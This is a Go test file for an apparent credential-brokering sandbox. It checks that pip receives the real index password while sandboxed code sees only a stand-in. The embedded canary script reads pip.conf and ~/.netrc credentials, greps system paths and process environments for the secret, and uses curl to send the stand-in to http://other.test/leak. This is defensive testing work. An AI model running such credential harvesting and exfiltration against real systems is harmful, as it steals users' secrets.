package main

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/sysprof/sysprof/internal/testutil"
)

// pipScript downloads a package from the password-protected index (pip.conf's index-url or
// $PIP_INDEX_URL), then the canary looks for a piece of the real password ($1) in what it can
// read, and sends the stand-in to a second allowed host.
const pipScript = `N=$1
/usr/bin/python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check -d dl sptest >pip.log 2>&1; echo "pip rc=$?"
U=${PIP_INDEX_URL:-$(sed -n 's#^index-url *= *##p' "$HOME/.config/pip/pip.conf" 2>/dev/null)}
S=$(echo "$U" | sed -n 's#^https://me:\([^@]*\)@pypi.test/simple$#\1#p')
[ -n "$S" ] || S=$(sed -n 's#^machine pypi.test login me password ##p' "$HOME/.netrc" 2>/dev/null)
echo "standin=$S"
echo "files: $(grep -rlsF -e "$N" "$HOME" "$PWD" /etc /tmp /var /run /root /home /opt /srv /mnt /dev/shm | tr '\n' ' ')"
echo "env: $(env | grep -cF -e "$N")"
echo "environ: $(for f in /proc/[0-9]*/environ; do grep -lsaF -e "$N" "$f"; done | tr '\n' ' ')"
curl -sS -m 10 -o /dev/null -u "me:$S" http://other.test/leak 2>/dev/null; echo "exfil rc=$?"
`

// sptestWheel is a minimal pure-Python wheel, sptest 1.0.
func sptestWheel() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range [][2]string{
		{"sptest/__init__.py", "VERSION = '1.0'\n"},
		{"sptest-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: sptest\nVersion: 1.0\n"},
		{"sptest-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: sysprof-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
		{"sptest-1.0.dist-info/RECORD", "sptest/__init__.py,,\nsptest-1.0.dist-info/METADATA,,\nsptest-1.0.dist-info/WHEEL,,\nsptest-1.0.dist-info/RECORD,,\n"},
	} {
		w, _ := z.Create(f[0])
		io.WriteString(w, f[1])
	}
	z.Close()
	return b.Bytes()
}

// pip downloads from an index that wants Basic auth (TLS, a test CA the host trusts), its
// password brokered from pip.conf's index-url (as root), from $PIP_INDEX_URL (as nobody) and
// from ~/.netrc (as root):
// pip holds the same URL with a stand-in password, the index gets the real one, the canary
// finds no trace of it, and the stand-in sent to a second allowed host is refused.
func TestCredentialsPipBrokered(t *testing.T) {
	testutil.RequireRoot(t)
	if err := exec.Command("/usr/bin/python3", "-m", "pip", "--version").Run(); err != nil {
		testutil.RequireNoErr(t, "pip", fmt.Errorf("/usr/bin/python3 -m pip: no such program (python3-pip): %w", err))
	}
	brokeredRun(t, "pip credentials run", pipInNetns, "curl")
}

func pipInNetns(bin string) error {
	base, caFile, leaf, err := credsBase("sysprof-pipcreds-", "pypi.test")
	if err != nil {
		return err
	}
	defer os.RemoveAll(base)
	real := randomSecret(32)
	needle := real[4:20]
	wheel := sptestWheel()
	sum := sha256.Sum256(wheel)
	var mu sync.Mutex
	var saw, otherSaw []string
	ln, err := net.Listen("tcp", regAddr+":443")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		user, pass, ok := r.BasicAuth()
		mu.Lock()
		saw = append(saw, fmt.Sprintf("%s %s %v %s:%s", r.Method, r.URL.Path, ok, user, pass))
		mu.Unlock()
		if !ok || user != "me" || pass != real {
			w.Header().Set("WWW-Authenticate", `Basic realm="pypi"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		switch r.URL.Path {
		case "/simple/sptest/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!DOCTYPE html><html><body><a href="/files/sptest-1.0-py3-none-any.whl#sha256=%x">sptest-1.0-py3-none-any.whl</a></body></html>`, sum)
		case "/files/sptest-1.0-py3-none-any.whl":
			w.Write(wheel)
		default:
			http.NotFound(w, r)
		}
	})}
	go srv.Serve(tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{leaf}}))
	defer srv.Close()
	other, err := serveOther(&mu, &otherSaw)
	if err != nil {
		return err
	}
	defer other.Close()

	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(filepath.Join(home, ".config", "pip"), 0o755)
	pub, err := publicCopy(bin, base)
	if err != nil {
		return err
	}
	var errs []string
	// root with pip.conf's index-url, root with ~/.netrc (pip's requests reads it for an index
	// URL without a password), nobody with $PIP_INDEX_URL (last: it owns the trees then).
	for i, nobody := range []bool{false, false, true} {
		netrc := i == 1
		mu.Lock()
		saw, otherSaw = nil, nil
		mu.Unlock()
		os.RemoveAll(filepath.Join(work, "dl"))
		url := "https://me:" + real + "@pypi.test/simple"
		rule, env, source := `{file: $HOME/.config/pip/pip.conf, key: "https://me@pypi.test/simple", hosts: [pypi.test], how: basic}`, "PIP_NO_INPUT=1", "$HOME/.config/pip/pip.conf https://me@pypi.test/simple"
		os.WriteFile(filepath.Join(home, ".config", "pip", "pip.conf"), []byte("[global]\nindex-url = "+url+"\ntimeout = 30\n"), 0o600)
		os.Remove(filepath.Join(home, ".netrc"))
		switch {
		case nobody:
			os.Remove(filepath.Join(home, ".config", "pip", "pip.conf"))
			rule, env, source = `{env: PIP_INDEX_URL, hosts: [pypi.test], how: basic}`, "PIP_INDEX_URL="+url, "$PIP_INDEX_URL"
		case netrc:
			os.Remove(filepath.Join(home, ".config", "pip", "pip.conf"))
			os.WriteFile(filepath.Join(home, ".netrc"), []byte("machine pypi.test login me password "+real+"\nmachine other.example login x password elsewhere\n"), 0o600)
			rule, env, source = `{file: $HOME/.netrc, key: pypi.test, hosts: [pypi.test], how: basic}`, "PIP_INDEX_URL=https://pypi.test/simple", "$HOME/.netrc pypi.test"
		}
		os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(brokerProfile("{name: pip-download, command: [python3, -m, pip, download], runs: 1, incomplete: false}", "",
			[]string{"pypi.test:443", "other.test:80"}, []string{rule})), 0o644)
		repFile := reportPath(base, fmt.Sprintf("rep-%d", i))
		cmd := exec.Command(pub, "enforce", "-p", "prof.yaml", "--report", repFile,
			"--resolve", "pypi.test="+regAddr, "--resolve", "other.test="+regAddr, "--", "sh", "-c", pipScript, "sh", needle)
		cmd.Dir = work
		// This machine's own pip settings (PIP_FIND_LINKS, …) are not the test's.
		cmd.Env = append(slices.DeleteFunc(os.Environ(), func(e string) bool { return strings.HasPrefix(e, "PIP_") }), "HOME="+home, "SSL_CERT_FILE="+caFile, env)
		if nobody {
			if err := asNobody(cmd, work, home); err != nil {
				return err
			}
		}
		outB, err := cmd.CombinedOutput()
		out := string(outB)
		who := []string{"root, pip.conf", "root, .netrc", "nobody, PIP_INDEX_URL"}[i]
		mu.Lock()
		server, oth := strings.Join(saw, "\n"), strings.Join(otherSaw, "\n")
		mu.Unlock()
		fail := func(f string, a ...any) {
			pipLog, _ := os.ReadFile(filepath.Join(work, "pip.log"))
			errs = append(errs, who+": "+fmt.Sprintf(f, a...)+"\noutput:\n"+out+"\npip.log:\n"+string(pipLog)+"\nindex saw:\n"+server)
		}
		if err != nil {
			fail("enforce: %v", err)
			continue
		}
		lines := canaryLines(out)
		standIn := lines["standin"]
		switch {
		case lines["pip rc"] != "0":
			fail("pip download failed")
		case standIn == "" || strings.Contains(standIn, needle):
			fail("pip's index URL inside holds no stand-in password, or the real one (%q)", standIn)
		case lines["files"] != "" || lines["env"] != "0" || lines["environ"] != "":
			fail("the canary found the real password: files %q, env %q, environ %q", lines["files"], lines["env"], lines["environ"])
		case lines["exfil rc"] == "0" || standIn != "" && strings.Contains(oth, standIn):
			fail("the stand-in reached other.test:\n%s", oth)
		case !strings.Contains(server, "GET /files/sptest-1.0-py3-none-any.whl true me:"+real) || standIn != "" && strings.Contains(server, standIn):
			fail("the index did not get the real password (and only it)")
		}
		if w, _ := os.ReadFile(filepath.Join(work, "dl", "sptest-1.0-py3-none-any.whl")); !bytes.Equal(w, wheel) {
			fail("the wheel was not downloaded")
		}
		rep, data, err := readReportFile(repFile)
		if err != nil {
			fail("%v", err)
			continue
		}
		used := false
		for _, u := range rep.CredentialUses {
			if u.Credential == source && u.Host == "pypi.test:443" && u.Path == "/simple/sptest/" && u.Status == 200 && strings.Contains(u.Binary, "python3") {
				used = true
			}
		}
		if !used {
			fail("the credential's use is not logged: %+v", rep.CredentialUses)
		}
		if !standInDenied(rep, source) {
			fail("no critical denial for the stand-in sent to other.test: %+v", rep.Denials)
		}
		if strings.Contains(string(data), real) {
			fail("the report holds the real password")
		}
	}
	if len(errs) > 0 {
		return fmt.Errorf("%s", strings.Join(errs, "\n\n"))
	}
	return nil
}

// learn finds the flow (pip reads pip.conf, whose index URL with a password names the index
// it then connects to) and writes a credentials rule; enforce then downloads from the
// password-protected plain-HTTP index on loopback with the password brokered.
func TestCredentialsPipLearnedLoopback(t *testing.T) {
	testutil.RequireRoot(t)
	if err := exec.Command("/usr/bin/python3", "-m", "pip", "--version").Run(); err != nil {
		testutil.RequireNoErr(t, "pip", fmt.Errorf("/usr/bin/python3 -m pip: no such program (python3-pip): %w", err))
	}
	bin, err := sysprofBinary()
	if err != nil {
		t.Fatal(err)
	}
	base := t.TempDir()
	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(filepath.Join(home, ".config", "pip"), 0o755)
	real := strings.Repeat("pw9x", 8)
	wheel := sptestWheel()
	sum := sha256.Sum256(wheel)
	var mu sync.Mutex
	var saw []string
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		user, pass, ok := r.BasicAuth()
		mu.Lock()
		saw = append(saw, fmt.Sprintf("%s %s %v %s:%s", r.Method, r.URL.Path, ok, user, pass))
		mu.Unlock()
		switch {
		case !ok || user != "me" || pass != real:
			w.Header().Set("WWW-Authenticate", `Basic realm="pypi"`)
			w.WriteHeader(http.StatusUnauthorized)
		case r.URL.Path == "/simple/sptest/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<a href="/files/sptest-1.0-py3-none-any.whl#sha256=%x">sptest-1.0-py3-none-any.whl</a>`, sum)
		case r.URL.Path == "/files/sptest-1.0-py3-none-any.whl":
			w.Write(wheel)
		default:
			http.NotFound(w, r)
		}
	})}
	go srv.Serve(ln)
	defer srv.Close()
	hostPort := ln.Addr().String()
	testutil.WriteFile(t, filepath.Join(home, ".config", "pip", "pip.conf"), "[global]\nindex-url = http://me:"+real+"@"+hostPort+"/simple\ntrusted-host = 127.0.0.1\n", 0o600)
	download := []string{"/usr/bin/python3", "-m", "pip", "download", "--no-deps", "--no-cache-dir", "--disable-pip-version-check", "-d", "dl", "sptest"}
	run := func(args ...string) (string, error) {
		cmd := exec.Command(bin, args...)
		cmd.Dir = work
		cmd.Env = append(slices.DeleteFunc(os.Environ(), func(e string) bool { return strings.HasPrefix(e, "PIP_") }), "HOME="+home)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	for range 2 {
		os.RemoveAll(filepath.Join(work, "dl"))
		out, err := run(append([]string{"learn", "-p", "pip.yaml", "--"}, download...)...)
		if err != nil {
			t.Fatalf("learn: %v\n%s", err, out)
		}
		if !strings.Contains(out, "credential flow(s) brokered") {
			t.Errorf("learn's review does not list the credential flow:\n%s", out)
		}
	}
	prof, _ := os.ReadFile(filepath.Join(work, "pip.yaml"))
	if !strings.Contains(string(prof), "credentials:\n  - {file: $HOME/.config/pip/pip.conf, key: \"http://me@"+hostPort+"/simple\", hosts: [\""+hostPort+"\"], how: basic, by: /usr/bin/python3") {
		t.Fatalf("the learned profile has no credentials rule for %s:\n%s", hostPort, prof)
	}
	mu.Lock()
	saw = nil
	mu.Unlock()
	os.RemoveAll(filepath.Join(work, "dl"))
	out, err := run(append([]string{"enforce", "-p", "pip.yaml", "--report", filepath.Join(base, "rep.json"), "--"}, download...)...)
	if err != nil {
		t.Fatalf("enforce: %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(work, "dl", "sptest-1.0-py3-none-any.whl")); !bytes.Equal(b, wheel) {
		t.Errorf("not downloaded under enforce:\n%s", out)
	}
	mu.Lock()
	got := strings.Join(saw, "\n")
	mu.Unlock()
	if !strings.Contains(got, "GET /files/sptest-1.0-py3-none-any.whl true me:"+real) {
		t.Errorf("the index did not get the real password:\n%s", got)
	}
	rep := testutil.ReadReport(t, filepath.Join(base, "rep.json"))
	if len(rep.CredentialUses) == 0 || rep.CredentialUses[0].Status != 200 {
		t.Errorf("uses: %+v\n%s", rep.CredentialUses, out)
	}
}
